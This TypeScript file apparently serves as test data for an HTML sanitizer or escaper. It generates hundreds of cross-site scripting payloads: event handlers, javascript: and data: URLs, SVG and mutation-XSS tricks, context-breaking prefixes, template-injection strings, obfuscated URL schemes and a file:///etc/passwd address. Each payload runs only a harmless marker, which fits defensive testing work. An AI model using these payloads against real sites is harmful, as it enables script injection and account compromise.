/** What each payload of markup would run, or load, were it ever more than text. */
const run = 'top.__ran=1';

const vectors = [
  `<script>${run}</script>`,
  `<script src="/files/ran.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>a</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">a</a>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">a</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<body onload="${run}">`,
  `<form action="javascript:${run}"><button>a</button></form>`,
  `<button formaction="javascript:${run}">a</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="//elsewhere.test/">`,
  `<link rel=stylesheet href="//elsewhere.test/a.css">`,
  `<style>@import "//elsewhere.test/a.css";*{background:url(javascript:${run})}</style>`,
  `<div style="background:url(javascript:${run})">a</div>`,
  `<x-y onpointerover="${run}" style="position:fixed;inset:0">a</x-y>`,
  `<template><img src=x onerror="${run}"></template>`,
];

/** Out of what a payload may have to break first; each keeps the vector whole. */
const openings: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"'>${vector}`,
  (vector) => `</title></textarea></style></script>${vector}`,
  (vector) => `--><!--><![CDATA[${vector}]]>`,
  (vector) => `\${${vector}}{{constructor.constructor('${run}')()}}${vector}`,
  (vector) => `<${vector}\n${vector.toUpperCase()}${vector}`,
  (vector) => `&lt;${vector.slice(1)}${vector.replaceAll('<', '\\u003c')}${vector.replaceAll(' ', '/')}`,
];

/** Text that becomes alive wherever it is taken for markup: more than 200, all different. */
export const markupPayloads: readonly string[] = openings.flatMap((opening) => vectors.map(opening));

/** Addresses that a browser would run or show as a page of ours, in every spelling that it forgives; more than 200, all different. */
export const addressPayloads: readonly string[] = [
  ...new Set(
    [
      `javascript:${run}`,
      `JaVaScRiPt:${run}`,
      `javascript://host/%0a${run}`,
      `javascript:/*--></title></style></textarea>*/${run}`,
      `data:text/html,<script>${run}</script>`,
      'data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+',
      `data:image/svg+xml,<svg onload="${run}"/>`,
      `DATA:text/html;charset=utf-8,<b>${run}</b>`,
      `vbscript:${run}`,
      'blob:https://elsewhere.test/1',
      'file:///etc/passwd',
      `view-source:javascript:${run}`,
      'filesystem:https://elsewhere.test/a',
    ].flatMap((address) => {
      const [scheme = '', rest] = [address.slice(0, address.indexOf(':')), address.slice(address.indexOf(':'))];
      const inside = (mark: string) => `${scheme.slice(0, 3)}${mark}${scheme.slice(3)}${rest}`;
      return [
        address,
        ...['\t', '\n', '\r', '\r\n', '\t\n\r'].map(inside),
        ...[' ', '\u0000', '\u0001', '\u001f', '\n\n', '\t  '].map((mark) => `${mark}${address}`),
        ...[' ', '\n', '#a', '?a=1'].map((mark) => `${address}${mark}`),
        `${scheme}\t${rest}`,
      ];
    }),
  ),
];
